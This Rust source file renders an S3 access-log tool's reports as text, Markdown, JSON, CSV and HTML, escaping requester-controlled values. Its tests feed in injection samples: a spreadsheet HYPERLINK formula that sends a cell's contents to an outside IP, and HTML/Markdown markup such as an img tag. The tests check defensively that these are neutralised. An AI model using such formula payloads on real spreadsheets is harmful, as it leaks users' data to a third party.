//! Renders report results: a terminal text layout, Markdown, one JSON
//! document, CSV sections and a self-contained HTML page with the records
//! over time and a chart per report. Values arrive redacted (see
//! [`super::run`]).

use std::borrow::Cow;
use std::cell::Cell;
use std::fmt::Write as _;
use std::io::Write;
use std::str::FromStr;

use datafusion::arrow::array::{AsArray, RecordBatch};
use datafusion::arrow::datatypes::{DataType, Int64Type};
use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};
use datafusion::arrow::util::pretty::pretty_format_batches;
use datafusion::arrow::{csv, json};
use serde_json::{Value, json};

use super::output::{RenderError, map_batches, printable, spreadsheet_safe, write_json};
use super::run::ReportResult;
use super::timeline::Timeline;
use crate::batch::ScanTotals;
use crate::counts::{counted, grouped};
use crate::window::{TimeSpan, TimeWindow};

/// Output formats of `s3logq report`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ReportFormat {
    #[default]
    Text,
    Markdown,
    Json,
    Csv,
    Html,
}

impl FromStr for ReportFormat {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "text" => Ok(ReportFormat::Text),
            "markdown" | "md" => Ok(ReportFormat::Markdown),
            "json" => Ok(ReportFormat::Json),
            "csv" => Ok(ReportFormat::Csv),
            "html" => Ok(ReportFormat::Html),
            other => Err(format!("unknown format `{other}` (expected text, markdown, json, csv or html)")),
        }
    }
}

/// Everything a rendered report shows.
pub struct ReportDocument<'a> {
    pub results: &'a [ReportResult],
    pub totals: ScanTotals,
    pub window: TimeWindow,
    /// Rows shown per report in text, Markdown and HTML (JSON and CSV carry all).
    pub max_rows: usize,
    /// Records over time, by kind: shown by the HTML page when there.
    pub timeline: Option<&'a Timeline>,
}

pub fn render(format: ReportFormat, doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
    match format {
        ReportFormat::Text => text(doc, out),
        ReportFormat::Markdown => markdown(doc, out),
        ReportFormat::Json => json_document(doc, out),
        ReportFormat::Csv => csv_sections(doc, out),
        ReportFormat::Html => html(doc, out),
    }
}

fn format_options() -> FormatOptions<'static> {
    FormatOptions::new().with_null("")
}

/// Column names and the first `limit` rows as display strings, each
/// [`printable`].
pub(crate) fn cells(result: &ReportResult, limit: usize) -> Result<(Vec<String>, Vec<Vec<String>>), RenderError> {
    let headers = result.schema.fields().iter().map(|f| f.name().clone()).collect();
    let options = format_options();
    let mut rows = Vec::new();
    for batch in &result.batches {
        let formatters = batch
            .columns()
            .iter()
            .map(|c| ArrayFormatter::try_new(c.as_ref(), &options))
            .collect::<Result<Vec<_>, _>>()?;
        for i in 0..batch.num_rows() {
            if rows.len() == limit {
                return Ok((headers, rows));
            }
            rows.push(formatters.iter().map(|f| printable_text(f.value(i).to_string())).collect());
        }
    }
    Ok((headers, rows))
}

/// `text`, [`printable`], copied only when it holds a control character.
fn printable_text(text: String) -> String {
    if let Cow::Owned(shown) = printable(&text) {
        return shown;
    }
    text
}

/// Sum of the `requests` column.
pub(crate) fn total_requests(result: &ReportResult) -> i64 {
    result
        .batches
        .iter()
        .filter_map(|b| b.column_by_name("requests"))
        .filter_map(|c| datafusion::arrow::compute::cast(c, &DataType::Int64).ok())
        .map(|c| c.as_primitive::<Int64Type>().iter().flatten().sum::<i64>())
        .sum()
}

/// A bound of the time window as RFC 3339, written as the outputs write
/// timestamps (the date-time's debug form is `2026-11-20T10:00:00`, with
/// only the fractional digits there are).
fn time_text(micros: Option<i64>) -> Option<String> {
    micros.and_then(datafusion::arrow::temporal_conversions::timestamp_us_to_datetime).map(|d| format!("{d:?}Z"))
}

/// When the records of a span were, as the summary tells it.
pub(crate) fn span_text(span: TimeSpan) -> String {
    let [first, last] = [span.first, span.last].map(|t| time_text(Some(t)).unwrap_or_default());
    if first == last { first } else { format!("{first} to {last}") }
}

fn window_text(w: &TimeWindow) -> String {
    let bound = |t| time_text(t).unwrap_or_else(|| "…".to_string());
    if w.is_open() { "all records".to_string() } else { format!("{} to {}", bound(w.since), bound(w.until)) }
}

/// A report's rows, [`counted`]: "1 row", "5 rows".
pub(crate) fn counted_rows(n: usize) -> String {
    counted(n as u64, "row")
}

/// What was read and what became of it; every line is a record in the
/// window, a record outside it, or a rejected line (rejected at ingest, for
/// a lake). Inputs given up on or read only in part
/// (`--skip-failed-objects`) are named, so that a report says what it lacks.
pub(crate) fn summary_line(doc: &ReportDocument<'_>) -> String {
    let t = &doc.totals;
    let outside = match t.outside_window {
        0 => String::new(),
        n => {
            let span = t.outside_span.map(|s| format!(" ({})", span_text(s))).unwrap_or_default();
            format!(", {} outside it{span}", grouped(n))
        }
    };
    let mut gaps = String::new();
    if t.failed_objects > 0 {
        gaps += &format!(", {} failed and left out", counted(t.failed_objects, "input"));
    }
    if t.partly_read > 0 {
        gaps += &format!(", {} read only up to a break", counted(t.partly_read, "input"));
    }
    let rejected = match t.rejected_at_ingest {
        0 => format!("{} rejected", counted(t.rejected, "line")),
        // A lake is read alone, and none of its lines is parsed again.
        n => format!("{} rejected at ingest", counted(n, "line")),
    };
    format!(
        "{} read from {}{gaps}, {} in window ({}){outside}, {rejected}",
        counted(t.lines, "line"),
        counted(t.inputs, "input"),
        counted(t.rows, "record"),
        window_text(&doc.window),
    )
}

/// "… and 5 more rows" when `result` has more rows than the `shown` ones.
pub(crate) fn more_rows(result: &ReportResult, shown: usize) -> Option<String> {
    (result.total_rows > shown).then(|| format!("… and {}", counted((result.total_rows - shown) as u64, "more row")))
}

fn text(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
    writeln!(out, "s3logq report: {}\n", summary_line(doc))?;
    for r in doc.results {
        let rep = &r.report;
        writeln!(out, "== {} [{}] {} — {}", rep.name, rep.severity, rep.title, counted_rows(r.total_rows))?;
        writeln!(out, "{}", wrap(&rep.description, 100))?;
        if r.total_rows == 0 {
            writeln!(out, "(nothing found)\n")?;
            continue;
        }
        let (shown, cut) = text_cells(&head(&r.batches, doc.max_rows))?;
        writeln!(out, "{}", pretty_format_batches(&shown)?)?;
        if let Some(more) = more_rows(r, doc.max_rows) {
            writeln!(out, "{more}")?;
        }
        if cut {
            writeln!(
                out,
                "(cells over {TEXT_CELL_CHARS} characters are cut here; --format json or csv keeps them whole)"
            )?;
        }
        if let Some(remedy) = &rep.remedy {
            writeln!(out, "Remedy: {remedy}")?;
        }
        writeln!(out)?;
    }
    Ok(())
}

/// The most characters a cell of a text report shows. A user agent or key is
/// the requester's to choose, and one of several kilobytes, or a SigV2
/// caller's list of a thousand source IPs, would otherwise widen every row
/// of its table past reading; ordinary values (SDK user agents with their
/// `md/` parts, keys) fit.
const TEXT_CELL_CHARS: usize = 256;

/// `batches` as a text report shows them: [`printable`], and cut to
/// [`TEXT_CELL_CHARS`]; and whether any cell was cut.
fn text_cells(batches: &[RecordBatch]) -> Result<(Vec<RecordBatch>, bool), RenderError> {
    let cut = Cell::new(false);
    let shown = map_batches(batches, |v| {
        let text = printable(v);
        if text.chars().nth(TEXT_CELL_CHARS).is_none() {
            return text;
        }
        cut.set(true);
        Cow::Owned(clip(&text, TEXT_CELL_CHARS))
    })?;
    Ok((shown, cut.get()))
}

/// The first `n` rows of a list of batches.
fn head(batches: &[RecordBatch], n: usize) -> Vec<RecordBatch> {
    let mut left = n;
    let mut out = Vec::new();
    for b in batches {
        if left == 0 {
            break;
        }
        let take = b.num_rows().min(left);
        out.push(b.slice(0, take));
        left -= take;
    }
    out
}

fn wrap(text: &str, width: usize) -> String {
    let mut out = String::new();
    let mut line_len = 0;
    for word in text.split_whitespace() {
        if line_len > 0 && line_len + 1 + word.len() > width {
            out.push('\n');
            line_len = 0;
        } else if line_len > 0 {
            out.push(' ');
            line_len += 1;
        }
        out.push_str(word);
        line_len += word.len();
    }
    out
}

/// A cell of a Markdown table, shown as the text it is: user agents and keys
/// are the requester's to choose, and a page that renders the report must
/// not turn them into HTML (`<img src=…>`), links or images (`[…](…)`), or
/// more cells (`|`). A newline would end the row.
fn markdown_cell(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' | '|' | '[' | ']' => {
                out.push('\\');
                out.push(c);
            }
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\n' => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

fn markdown(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
    writeln!(out, "# S3 access log report\n\n{}\n", summary_line(doc))?;
    writeln!(out, "| report | severity | rows | requests |\n|---|---|---:|---:|")?;
    for r in doc.results {
        let name = markdown_cell(&r.report.name);
        writeln!(out, "| {name} | {} | {} | {} |", r.report.severity, r.total_rows, total_requests(r))?;
    }
    for r in doc.results {
        let rep = &r.report;
        writeln!(
            out,
            "\n## {} (`{}`)\n\n**Severity:** {} · **Rows:** {}\n\n{}\n",
            rep.title, rep.name, rep.severity, r.total_rows, rep.description
        )?;
        let (headers, rows) = cells(r, doc.max_rows)?;
        if rows.is_empty() {
            writeln!(out, "Nothing found.")?;
            continue;
        }
        writeln!(out, "| {} |", headers.iter().map(|h| markdown_cell(h)).collect::<Vec<_>>().join(" | "))?;
        writeln!(out, "|{}", "---|".repeat(headers.len()))?;
        for row in rows {
            writeln!(out, "| {} |", row.iter().map(|c| markdown_cell(c)).collect::<Vec<_>>().join(" | "))?;
        }
        if let Some(more) = more_rows(r, doc.max_rows) {
            writeln!(out, "\n{more}")?;
        }
        if let Some(remedy) = &rep.remedy {
            writeln!(out, "\nRemedy:\n\n```json\n{remedy}\n```")?;
        }
    }
    Ok(())
}

/// A JSON string literal.
fn json_text(s: &str) -> String {
    Value::from(s).to_string()
}

/// A report's rows as a JSON array, one object per line, keys in column
/// order, written as Arrow's JSON writer makes them (not rebuilt as a tree).
fn json_rows(batches: &[RecordBatch], indent: &str, out: &mut dyn Write) -> Result<(), RenderError> {
    let mut buf = Vec::new();
    write_json::<json::writer::LineDelimited>(batches, &mut buf)?;
    write!(out, "[")?;
    for (i, row) in buf.split(|b| *b == b'\n').filter(|row| !row.is_empty()).enumerate() {
        write!(out, "{}\n{indent}  ", if i > 0 { "," } else { "" })?;
        out.write_all(row)?;
    }
    if !buf.is_empty() {
        write!(out, "\n{indent}")?;
    }
    write!(out, "]")?;
    Ok(())
}

/// `{"reports": [{"name", "title", "severity", "description", "remedy",
/// "total_rows", "rows"}, ...], "rejected_lines", "lines_read", "records",
/// "records_outside_window", "records_outside_window_span" (`{"first",
/// "last"}` or null), "inputs", "inputs_failed",
/// "inputs_read_in_part", "window"}`, written as it goes: a run
/// over a big input can have tens of thousands of rows.
fn json_document(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
    write!(out, "{{\n  \"reports\": [")?;
    for (i, r) in doc.results.iter().enumerate() {
        let report = &r.report;
        let remedy = report.remedy.as_deref().map_or_else(|| "null".to_string(), json_text);
        write!(out, "{}\n    {{\n", if i > 0 { "," } else { "" })?;
        writeln!(out, "      \"name\": {},", json_text(&report.name))?;
        writeln!(out, "      \"title\": {},", json_text(&report.title))?;
        writeln!(out, "      \"severity\": {},", json_text(report.severity.as_str()))?;
        writeln!(out, "      \"description\": {},", json_text(&report.description))?;
        writeln!(out, "      \"remedy\": {remedy},")?;
        writeln!(out, "      \"total_rows\": {},", r.total_rows)?;
        write!(out, "      \"rows\": ")?;
        json_rows(&r.batches, "      ", out)?;
        write!(out, "\n    }}")?;
    }
    let t = &doc.totals;
    let window = json!({"since": time_text(doc.window.since), "until": time_text(doc.window.until)});
    writeln!(out, "{}],", if doc.results.is_empty() { "" } else { "\n  " })?;
    writeln!(out, "  \"rejected_lines\": {},", t.rejected + t.rejected_at_ingest)?;
    writeln!(out, "  \"lines_read\": {},", t.lines)?;
    writeln!(out, "  \"records\": {},", t.rows)?;
    writeln!(out, "  \"records_outside_window\": {},", t.outside_window)?;
    let outside_span =
        t.outside_span.map(|s| json!({"first": time_text(Some(s.first)), "last": time_text(Some(s.last))}));
    writeln!(out, "  \"records_outside_window_span\": {},", outside_span.unwrap_or(Value::Null))?;
    writeln!(out, "  \"inputs\": {},", t.inputs)?;
    writeln!(out, "  \"inputs_failed\": {},", t.failed_objects)?;
    writeln!(out, "  \"inputs_read_in_part\": {},", t.partly_read)?;
    writeln!(out, "  \"window\": {window}\n}}")?;
    Ok(())
}

/// One CSV section per report, under a `# name: title (rows)` line. Meant
/// for spreadsheets: text that one would run as a formula is marked as text
/// ([`spreadsheet_safe`]); numbers are written as they are.
fn csv_sections(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
    for (i, r) in doc.results.iter().enumerate() {
        if i > 0 {
            writeln!(out)?;
        }
        writeln!(out, "# {}: {} ({})", r.report.name, r.report.title, counted_rows(r.total_rows))?;
        let mut w = csv::WriterBuilder::new().with_header(true).build(&mut *out);
        if r.batches.iter().all(|b| b.num_rows() == 0) {
            w.write(&RecordBatch::new_empty(r.schema.clone()))?;
        }
        map_batches(&r.batches, spreadsheet_safe)?.iter().try_for_each(|b| w.write(b))?;
    }
    Ok(())
}

fn escape_html(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

const HTML_STYLE: &str = "body{font-family:system-ui,sans-serif;margin:2rem;color:#1d2329}\
table{border-collapse:collapse;margin:.5rem 0;font-size:.85rem}td,th{border:1px solid #ccd;padding:.2rem .4rem;text-align:left}\
th{background:#eef}.sev{padding:.1rem .4rem;border-radius:.3rem;color:#fff}.sev-info{background:#667}.sev-low{background:#386}\
.sev-medium{background:#b80}.sev-high{background:#c33}.sev-critical{background:#808}section{margin-top:2rem}\
svg text{font-size:11px}pre{white-space:pre-wrap}.rows{overflow-x:auto}";

/// A horizontal bar chart of `requests` by the report's row keys (see
/// [`bar_labels`]); each bar's full key and count show on hover.
fn bar_chart(headers: &[String], rows: &[Vec<String>]) -> Option<String> {
    let req = headers.iter().position(|h| h == "requests")?;
    let (rows, values): (Vec<&Vec<String>>, Vec<f64>) =
        rows.iter().take(10).filter_map(|r| Some((r, r[req].parse::<f64>().ok()?))).unzip();
    let max = values.iter().copied().fold(0.0, f64::max);
    if values.is_empty() || max <= 0.0 {
        return None;
    }
    let mut svg = format!(
        "<svg role=\"img\" width=\"760\" height=\"{}\" xmlns=\"http://www.w3.org/2000/svg\">",
        values.len() * 22 + 4
    );
    for (i, (label, value)) in bar_labels(&rows, req).iter().zip(&values).enumerate() {
        let y = i * 22 + 2;
        let width = (value / max * 380.0).max(1.0);
        let _ = write!(
            svg,
            "<g><title>{}: {}</title><text x=\"0\" y=\"{}\">{}</text><rect x=\"340\" y=\"{y}\" width=\"{width:.0}\" height=\"16\" fill=\"#4a78c2\"/><text x=\"{:.0}\" y=\"{}\">{value}</text></g>",
            escape_html(label),
            counted(*value as u64, "request"),
            y + 12,
            escape_html(&clip(label, BAR_LABEL_CHARS)),
            345.0 + width,
            y + 12
        );
    }
    svg.push_str("</svg>");
    Some(svg)
}

/// Characters of a bar's label that fit before its bar (at about 7 pixels
/// each in 340).
const BAR_LABEL_CHARS: usize = 46;

/// Each bar's label: the row's first column, or as many of its leading
/// columns (those before `requests`, the row's keys) as it takes for no two
/// bars to share a label. Empty cells are left out; a row with none is
/// `(none)`.
fn bar_labels(rows: &[&Vec<String>], requests_column: usize) -> Vec<String> {
    let label = |row: &Vec<String>, keys: usize| {
        let parts: Vec<&str> = row[..keys].iter().map(String::as_str).filter(|c| !c.is_empty()).collect();
        if parts.is_empty() { "(none)".to_string() } else { parts.join(" · ") }
    };
    let mut labels = Vec::new();
    for keys in requests_column.min(1)..=requests_column {
        labels = rows.iter().map(|row| label(row, keys)).collect();
        if labels.iter().collect::<std::collections::HashSet<_>>().len() == labels.len() {
            break;
        }
    }
    labels
}

/// `text` cut to at most `max` characters, the cut marked by an ellipsis.
pub(crate) fn clip(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_string();
    }
    let mut out: String = text.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

/// The page's records over time: a row of columns per kind that has any
/// (all records always), on one time axis.
fn timeline_section(timeline: &Timeline) -> String {
    let width = match timeline.width_hours {
        1 => "hour".to_string(),
        n => format!("{n} hours"),
    };
    let mut section = format!(
        "<section id=\"timeline\"><h2>Records over time</h2><p>Records per {width} (UTC), by kind; \
         in parentheses, the report whose condition the kind is.</p>"
    );
    for (i, (label, counts)) in timeline.kinds.iter().enumerate() {
        let total: i64 = counts.iter().sum();
        if i == 0 || total > 0 {
            let _ = write!(section, "<h3>{}: {total}</h3>{}", escape_html(label), column_chart(timeline, counts));
        }
    }
    section.push_str("</section>");
    section
}

/// One column per bucket, as high as its count against the highest; each
/// column's tooltip gives its bucket and count, and the axis the first and
/// last bucket's start.
fn column_chart(timeline: &Timeline, counts: &[i64]) -> String {
    const WIDTH: f64 = 720.0;
    const HEIGHT: f64 = 40.0;
    let max = counts.iter().copied().max().unwrap_or(0).max(1) as f64;
    let step = WIDTH / counts.len().max(1) as f64;
    let start = |i: usize| time_text(Some(timeline.bucket_start(i) * 1_000_000)).unwrap_or_default();
    let mut svg = format!(
        "<svg role=\"img\" width=\"{WIDTH}\" height=\"{}\" xmlns=\"http://www.w3.org/2000/svg\">",
        HEIGHT + 16.0
    );
    for (i, count) in counts.iter().enumerate().filter(|(_, c)| **c > 0) {
        let height = (*count as f64 / max * HEIGHT).max(1.0);
        let _ = write!(
            svg,
            "<rect x=\"{:.1}\" y=\"{:.1}\" width=\"{:.1}\" height=\"{height:.1}\" fill=\"#4a78c2\"><title>{}: {count}</title></rect>",
            i as f64 * step,
            HEIGHT - height,
            (step - 1.0).max(1.0),
            start(i)
        );
    }
    let _ = write!(
        svg,
        "<line x1=\"0\" y1=\"{HEIGHT}\" x2=\"{WIDTH}\" y2=\"{HEIGHT}\" stroke=\"#ccd\"/>\
         <text x=\"0\" y=\"{0}\">{1}</text><text x=\"{WIDTH}\" y=\"{0}\" text-anchor=\"end\">{2}</text></svg>",
        HEIGHT + 13.0,
        start(0),
        start(counts.len().saturating_sub(1))
    );
    svg
}

fn html(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
    let mut page = html_summary(doc);
    if let Some(timeline) = doc.timeline {
        page.push_str(&timeline_section(timeline));
    }
    for r in doc.results {
        page.push_str(&html_section(r, doc.max_rows)?);
    }
    page.push_str("</body></html>\n");
    out.write_all(page.as_bytes())?;
    Ok(())
}

/// The page's head, title and summary: a row per report linking to its
/// section.
fn html_summary(doc: &ReportDocument<'_>) -> String {
    let mut page = format!(
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>S3 access log report</title><style>{HTML_STYLE}</style></head><body>\
         <h1>S3 access log report</h1><p id=\"summary\">{}</p><table><tr><th>report</th><th>severity</th><th>rows</th><th>requests</th></tr>",
        escape_html(&summary_line(doc))
    );
    for r in doc.results {
        let _ = write!(
            page,
            "<tr><td><a href=\"#{0}\">{0}</a></td><td><span class=\"sev sev-{1}\">{1}</span></td><td>{2}</td><td>{3}</td></tr>",
            escape_html(&r.report.name),
            r.report.severity,
            r.total_rows,
            total_requests(r)
        );
    }
    page.push_str("</table>");
    page
}

/// One report's section: what it is, its chart, its first `max_rows` rows
/// and its remedy.
fn html_section(r: &ReportResult, max_rows: usize) -> Result<String, RenderError> {
    let rep = &r.report;
    let mut section = format!(
        "<section id=\"{}\"><h2>{}</h2><p><span class=\"sev sev-{2}\">{2}</span> {3}</p><p>{4}</p>",
        escape_html(&rep.name),
        escape_html(&rep.title),
        rep.severity,
        counted_rows(r.total_rows),
        escape_html(&rep.description)
    );
    let (headers, rows) = cells(r, max_rows)?;
    if rows.is_empty() {
        section.push_str("<p>Nothing found.</p></section>");
        return Ok(section);
    }
    if let Some(chart) = bar_chart(&headers, &rows) {
        section.push_str(&chart);
    }
    section.push_str(&html_table(&headers, &rows));
    if let Some(more) = more_rows(r, max_rows) {
        let _ = write!(section, "<p>{more}</p>");
    }
    if let Some(remedy) = &rep.remedy {
        let _ = write!(section, "<p>Remedy:</p><pre>{}</pre>", escape_html(remedy));
    }
    section.push_str("</section>");
    Ok(section)
}

fn html_table(headers: &[String], rows: &[Vec<String>]) -> String {
    let row = |cells: &[String], tag: &str| {
        let cells: String = cells.iter().map(|c| format!("<{tag}>{}</{tag}>", escape_html(c))).collect();
        format!("<tr>{cells}</tr>")
    };
    let body: String = rows.iter().map(|r| row(r, "td")).collect();
    format!("<div class=\"rows\"><table>{}{body}</table></div>", row(headers, "th"))
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;

    #[test]
    fn words_wrap_at_the_width() {
        assert_eq!(wrap("aaa bbb ccc", 7), "aaa bbb\nccc");
        assert_eq!(escape_html("<a href=\"x\">&"), "&lt;a href=&quot;x&quot;&gt;&amp;");
    }

    #[test]
    fn the_timeline_shows_every_kind_with_records_and_always_all() {
        let timeline = Timeline {
            start: 1_795_165_200, // 2026-11-20T09:00:00Z
            width_hours: 2,
            kinds: vec![
                ("all".into(), vec![4, 0, 2]),
                ("none <here>".into(), vec![0; 3]),
                ("SigV2".into(), vec![0, 0, 1]),
            ],
        };
        let section = timeline_section(&timeline);
        assert!(section.contains("Records per 2 hours (UTC)"), "{section}");
        assert!(section.contains("<h3>all: 6</h3>") && section.contains("<h3>SigV2: 1</h3>"), "{section}");
        assert!(!section.contains("none"), "a kind without records is left out");
        assert!(section.contains("<title>2026-11-20T13:00:00Z: 2</title>"), "{section}");
        assert!(section.contains(">2026-11-20T09:00:00Z</text>") && section.contains(">2026-11-20T13:00:00Z</text>"));
        assert_eq!(section.matches("<rect").count(), 3, "a column per bucket with records");
        let empty = Timeline { kinds: vec![("all".into(), vec![0])], ..timeline };
        assert!(timeline_section(&empty).contains("<h3>all: 0</h3>"));
    }

    #[test]
    fn charts_need_a_requests_column() {
        let headers = vec!["who".to_string(), "requests".to_string()];
        let rows = vec![vec!["alice".to_string(), "4".to_string()], vec![String::new(), "2".to_string()]];
        let svg = bar_chart(&headers, &rows).unwrap();
        assert!(svg.contains(">alice<") && svg.contains(">(none)<") && svg.contains("width=\"380\""));
        assert!(svg.contains("<title>alice: 4 requests</title>"), "{svg}");
        assert!(bar_chart(&["who".to_string()], &[vec!["x".to_string()]]).is_none());
    }

    #[test]
    fn bar_labels_take_as_many_keys_as_tell_the_bars_apart() {
        let row = |cells: &[&str]| cells.iter().map(|c| c.to_string()).collect::<Vec<_>>();
        let rows =
            [row(&["AKIA1", "alice", "b1", "3"]), row(&["AKIA1", "", "b2", "1"]), row(&["AKIA2", "bob", "b1", "1"])];
        let rows: Vec<&Vec<String>> = rows.iter().collect();
        assert_eq!(bar_labels(&rows, 3), ["AKIA1 · alice", "AKIA1", "AKIA2 · bob"]);
        assert_eq!(bar_labels(&rows[2..], 3), ["AKIA2"], "one key is enough where it differs");
        assert_eq!(bar_labels(&rows[..1], 0), ["(none)"], "no key columns");
        let same = [row(&["x", "1"]), row(&["x", "2"])];
        assert_eq!(bar_labels(&same.iter().collect::<Vec<_>>(), 1), ["x", "x"], "keys run out");
        assert_eq!(clip("abcdef", 4), "abc…");
        assert_eq!(clip("abcd", 4), "abcd");
    }

    fn result(name: &str, batches: Vec<RecordBatch>) -> ReportResult {
        use datafusion::arrow::datatypes::Schema;
        let report = crate::report::catalog::Report {
            name: name.into(),
            title: format!("{name} \"quoted\""),
            severity: crate::report::catalog::Severity::Low,
            description: "line one\nline two".into(),
            remedy: None,
            sql: String::new(),
            path: None,
        };
        let total_rows = batches.iter().map(RecordBatch::num_rows).sum();
        let schema = batches.first().map_or_else(|| Arc::new(Schema::empty()), RecordBatch::schema);
        ReportResult { report, schema, batches, total_rows }
    }

    fn rendered(format: ReportFormat, results: &[ReportResult]) -> String {
        let doc = ReportDocument {
            results,
            totals: ScanTotals { lines: 3, rows: 2, rejected: 1, ..Default::default() },
            window: TimeWindow::default(),
            max_rows: 10,
            timeline: None,
        };
        let mut out = Vec::new();
        render(format, &doc, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn json_of(results: &[ReportResult]) -> Value {
        serde_json::from_str(&rendered(ReportFormat::Json, results)).unwrap()
    }

    #[test]
    fn a_report_named_like_markup_is_shown_as_text() {
        // A --queries folder's file name becomes the report's name.
        let results = [result("x\"><img src=y>|z", vec![])];
        let html = rendered(ReportFormat::Html, &results);
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("<a href=\"#x&quot;&gt;&lt;img src=y&gt;|z\">"), "{html}");
        assert!(html.contains("<section id=\"x&quot;&gt;&lt;img src=y&gt;|z\">"), "{html}");
        let markdown = rendered(ReportFormat::Markdown, &results);
        assert!(markdown.contains("| x\"&gt;&lt;img src=y&gt;\\|z | low | 0 | 0 |"), "{markdown}");
        assert_eq!(markdown_cell("![a](http://t/p.png) \\[b]\nc"), "!\\[a\\](http://t/p.png) \\\\\\[b\\] c");
    }

    #[test]
    fn a_text_report_cuts_only_cells_too_long_to_read_and_says_so() {
        use datafusion::arrow::array::StringArray;
        let huge = format!("curl/8.5.0 {}\u{1b}", "A".repeat(5000));
        let ordinary = "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.8";
        let report = |agents: Vec<&str>| {
            let batch = RecordBatch::try_from_iter([("user_agent", Arc::new(StringArray::from(agents)) as _)]).unwrap();
            [result("r", vec![batch])]
        };
        let json = json_of(&report(vec![huge.as_str()]));
        assert_eq!(json["reports"][0]["rows"][0]["user_agent"], huge.as_str(), "JSON keeps the cell whole");
        let agents = |agents| rendered(ReportFormat::Text, &report(agents));
        let text = agents(vec![huge.as_str(), ordinary]);
        let cut = format!("| curl/8.5.0 {}… |", "A".repeat(TEXT_CELL_CHARS - 12));
        assert!(text.contains(&cut), "{text}");
        assert!(text.contains(&format!("| {ordinary}{} |", " ".repeat(TEXT_CELL_CHARS - ordinary.len()))), "{text}");
        assert!(text.contains("(cells over 256 characters are cut here; --format json or csv keeps them whole)"));
        let exactly = "B".repeat(TEXT_CELL_CHARS);
        let text = agents(vec![exactly.as_str(), "\u{1b}"]);
        assert!(text.contains(&format!("| {exactly} |")) && text.contains("| \\x1b "), "{text}");
        assert!(!text.contains("are cut here"), "{text}");
    }

    #[test]
    fn a_csv_report_opens_in_a_spreadsheet_without_running_a_requester_s_formula() {
        use datafusion::arrow::array::{Int64Array, StringArray};
        let agent = "=HYPERLINK(\"http://198.51.100.7/?\"&A2,\"open\")";
        let batch = RecordBatch::try_from_iter([
            ("user_agent", Arc::new(StringArray::from(vec![Some(agent), Some("-x"), Some("curl/8.5.0"), None])) as _),
            ("requests", Arc::new(Int64Array::from(vec![1, -2, 3, 4])) as _),
        ])
        .unwrap();
        let results = [result("r", vec![batch])];
        let csv = rendered(ReportFormat::Csv, &results);
        let rows: Vec<&str> = csv.lines().skip(2).collect();
        assert_eq!(
            rows,
            ["\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A2,\"\"open\"\")\",1", "'-x,-2", "curl/8.5.0,3", ",4"]
        );
        assert_eq!(json_of(&results)["reports"][0]["rows"][0]["user_agent"], agent, "JSON keeps the value as logged");
    }

    #[test]
    fn counts_of_one_are_singular_in_every_format_for_people() {
        use datafusion::arrow::array::Int64Array;
        let requests = |n: i64| {
            let batch = RecordBatch::try_from_iter([("requests", Arc::new(Int64Array::from_iter_values(1..=n)) as _)]);
            result(&format!("r{n}"), vec![batch.unwrap()])
        };
        let results = [requests(1), requests(11)];
        let text = rendered(ReportFormat::Text, &results);
        assert!(text.contains("== r1 [low] r1 \"quoted\" — 1 row\n"), "{text}");
        assert!(text.contains("== r11 [low] r11 \"quoted\" — 11 rows\n"), "{text}");
        assert!(text.contains("… and 1 more row\n"), "{text}");
        let html = rendered(ReportFormat::Html, &results);
        assert!(html.contains("</span> 1 row</p>") && html.contains("</span> 11 rows</p>"), "{html}");
        assert!(html.contains("<title>(none): 1 request</title>"), "{html}");
        let csv = rendered(ReportFormat::Csv, &results);
        assert!(csv.contains("# r1: r1 \"quoted\" (1 row)\n"), "{csv}");
    }

    #[test]
    fn json_is_one_valid_document_with_or_without_rows() {
        use datafusion::arrow::array::{Int64Array, StringArray};
        let batch = RecordBatch::try_from_iter([
            ("who", Arc::new(StringArray::from(vec![Some("a\"b"), None])) as _),
            ("requests", Arc::new(Int64Array::from(vec![2, 1])) as _),
        ])
        .unwrap();
        let doc = json_of(&[result("first", vec![batch]), result("second", vec![])]);
        let reports = doc["reports"].as_array().unwrap();
        assert_eq!(reports[0]["title"], "first \"quoted\"");
        assert_eq!(reports[0]["total_rows"], 2);
        assert_eq!(reports[0]["rows"], json!([{"who": "a\"b", "requests": 2}, {"who": null, "requests": 1}]));
        assert_eq!(reports[1]["rows"], json!([]));
        assert_eq!(reports[1]["remedy"], Value::Null);
        assert_eq!(
            (doc["rejected_lines"].clone(), doc["lines_read"].clone(), doc["records"].clone()),
            (json!(1), json!(3), json!(2))
        );
        assert_eq!(json_of(&[])["reports"], json!([]));
    }

    #[test]
    fn inputs_left_out_or_read_in_part_are_told_in_every_format() {
        let totals =
            ScanTotals { inputs: 5, lines: 9, rows: 9, failed_objects: 1, partly_read: 2, ..Default::default() };
        let doc = ReportDocument { results: &[], totals, window: TimeWindow::default(), max_rows: 10, timeline: None };
        let told =
            "9 lines read from 5 inputs, 1 input failed and left out, 2 inputs read only up to a break, 9 records";
        assert!(summary_line(&doc).starts_with(told), "{}", summary_line(&doc));
        for format in [ReportFormat::Text, ReportFormat::Markdown, ReportFormat::Html] {
            let mut out = Vec::new();
            render(format, &doc, &mut out).unwrap();
            assert!(String::from_utf8(out).unwrap().contains(told), "{format:?}");
        }
